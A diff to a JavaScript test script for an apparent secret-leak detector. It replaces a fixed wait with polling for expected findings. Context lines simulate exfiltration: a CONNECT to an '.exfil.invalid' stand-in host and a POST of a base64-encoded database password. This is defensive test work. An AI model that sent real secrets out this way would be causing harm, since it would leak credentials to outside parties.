@@ -102,7 +102,14 @@ console.log('r6', await toHost('CONNECT', s.hostGithub + '.exfil.invalid:443', s
 // A known secret (no format of its own), base64-encoded in a JSON body.
 console.log('r7', await send('POST', '/upload', { 'content-type': 'application/json' },
   JSON.stringify({ blob: Buffer.from('pw:' + s.dbPassword).toString('base64') })));
-await new Promise((r) => setTimeout(r, 300));
+// Wait for the findings the test expects (the scan pool is asynchronous; a
+// fixed 300 ms was a guess a loaded box could miss), up to 20 s.
+for (let i = 0; i < 400; i++) {
+  const f = svc.findings({ limit: 100 }).findings;
+  const masked = f.filter((x) => String(x.dest).startsWith('[MASKED]')).length;
+  if (f.some((x) => x.pattern === 'known_secret') && f.some((x) => x.pattern === 'aws_access_key_id') && masked >= 2) break;
+  await new Promise((r) => setTimeout(r, 50));
+}
 console.log('status', JSON.stringify(svc.status()));
 console.log('findings', JSON.stringify(svc.findings({ limit: 100 })));
 console.log('check', JSON.stringify(svc.checkConfig()));
